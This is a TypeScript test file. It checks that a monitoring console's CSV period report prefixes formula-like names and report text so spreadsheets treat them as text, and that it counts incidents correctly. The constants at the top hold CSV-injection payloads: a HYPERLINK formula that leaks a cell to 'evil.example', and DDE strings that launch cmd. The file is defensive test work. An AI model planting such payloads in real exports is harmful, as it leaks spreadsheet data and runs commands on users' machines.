// The period report's CSV files opened in a spreadsheet (issue 16): a room, a device and a playbook's report whose
// text starts with a formula (=HYPERLINK, @SUM, +…) come out as text, prefixed with ', while a cold room's negative
// temperatures stay numbers. Names from the site config, the report written through the playbook API; incidents
// written down and resolved through the duty-log API are counted opened and closed.
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../../src/shifts/csv.ts';
import { playbookSteps } from '../../src/playbooks/definitions.ts';
import { api, login } from '../helpers/console-client.ts';
import { fakeClock } from '../helpers/fake-clock.ts';
import { oneSensorSiteYaml, startTestGateway, type TestGateway } from '../helpers/gateway.ts';
import { freePort } from '../helpers/ports.ts';

const ROOM_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"B1")';
const DEVICE_NAME = '@SUM(1+1)*cmd|\' /C calc\'!A0';
const CAUSE = '=HYPERLINK("http://evil.example","see report")';
const COURSE = '+1+cmd|\' /C notepad\'!A0';
const NOW = Date.parse('2026-12-03T10:25:30+08:00');
const TEMP = 'dist-b1-th1.temperature';

const clock = fakeClock(NOW);
let gw: TestGateway;
let cookie: string;
const csv = async (table: string): Promise<string[][]> => {
  const res = await fetch(`${gw.url}/api/period-report/${table}.csv?lang=en`, { headers: { cookie } });
  expect(res.status).toBe(200);
  return parseCsv(await res.text()).map((r) => r.fields);
};

beforeAll(async () => {
  const dataDir = mkdtempSync(join(tmpdir(), 'rw-period-csv-'));
  const yaml = oneSensorSiteYaml({ port: await freePort(), dataDir })
    .replace('name: { en: Distribution room B1, zh-CN: B1 配电房 }', `name: { en: ${JSON.stringify(ROOM_NAME)}, zh-CN: ${JSON.stringify(ROOM_NAME)} }`)
    .replace('    room: dist-room-b1\n', `    room: dist-room-b1\n    name: { en: ${JSON.stringify(DEVICE_NAME)}, zh-CN: ${JSON.stringify(DEVICE_NAME)} }\n`);
  gw = await startTestGateway({ yaml, dataDir, clock });
  // A cold morning: −3.5 °C to −1.5 °C over the last twenty minutes.
  for (let i = 0; i < 40; i++) {
    const ts = NOW - 20 * 60_000 + i * 30_000;
    gw.gateway.ingest([{ pointKey: TEMP, roomId: 'dist-room-b1', deviceId: 'dist-b1-th1', point: 'temperature', unit: '°C', quality: 'good', ts, value: -3.5 + (2 * i) / 39 }]);
  }
  cookie = (await login(gw.url, 'lead', 'lead')).cookie;
  const post = async (path: string, body: unknown): Promise<{ id: number }> => {
    const res = await api<{ id: number }>(gw.url, cookie, path, { method: 'POST', body: JSON.stringify(body), headers: { 'content-type': 'application/json' } });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    return res.body;
  };
  const { id } = await post('/api/playbooks', { type: 'power-cut', situation: 'Mains lost', roomId: 'dist-room-b1' });
  for (const step of playbookSteps['power-cut']) await post(`/api/playbooks/${id}/steps/${step}`, { note: 'done' });
  await post(`/api/playbooks/${id}/report`, { cause: CAUSE, course: COURSE, result: 'Power back', followUp: '-' });
  // Two theft incidents written down in the console, one closed with Resolve (S5/S7).
  const first = await post('/api/duty-log/notes', { category: 'theft', situation: 'cable missing', handling: 'reported', followUp: 'check the CCTV', roomId: 'dist-room-b1' });
  await post('/api/duty-log/notes', { category: 'theft', situation: 'tool box missing', handling: 'reported', followUp: 'ask the contractor', roomId: 'dist-room-b1' });
  clock.advance(60_000);
  await post(`/api/duty-log/notes/${first.id}/resolve`, { how: 'cable found in the store room' });
  clock.advance(1000); // the report covers up to now: what was just written is in it
}, 60_000);
afterAll(async () => gw?.dispose());

describe('period report CSV in a spreadsheet', () => {
  it('prefixes a room, a device and a playbook report that start with a formula, and keeps negative numbers as numbers', async () => {
    const [head, row] = await csv('trends');
    expect(head).toEqual(['Room', 'Point', 'Date', 'Min', 'Max', 'Mean', 'Unit']);
    expect(row!.slice(0, 5)).toEqual([`'${ROOM_NAME}`, `'${DEVICE_NAME} · Temperature`, '2026-12-03', '-3.5', '-1.5']);
    expect(Number(row![5])).toBeCloseTo(-2.5, 9);

    const playbooks = await csv('playbooks');
    expect(playbooks[1]!.slice(0, 3)).toEqual(['#1', `'${ROOM_NAME}`, 'Power cut (E1)']);
    expect(playbooks[1]!.slice(5)).toEqual([`'${CAUSE}`, `'${COURSE}`, 'Power back', "'-"]);
  });

  it('counts the incidents written down and those closed through the console, in the report and its CSV', async () => {
    const res = await api<{ compliance: { incidents: unknown[] } }>(gw.url, cookie, '/api/period-report?room=dist-room-b1');
    expect(res.body.compliance.incidents).toEqual([{ category: 'theft', count: 2, closed: 1 }]);
    const rows = await csv('compliance');
    expect(rows.filter((r) => r[0]!.startsWith('Incidents') && r[0]!.includes('Theft')).map((r) => r.slice(0, 2))).toEqual([['Incidents: Theft', '2'], ['Incidents closed: Theft', '1']]);
  });

  it('shows the same names unprefixed in the report itself (the guard is the CSV\'s)', async () => {
    const res = await api<{ compliance: { playbooks: { list: { report: { cause: string } | null }[] } } }>(gw.url, cookie, '/api/period-report');
    expect(res.body.compliance.playbooks.list[0]!.report!.cause).toBe(CAUSE);
  });
});
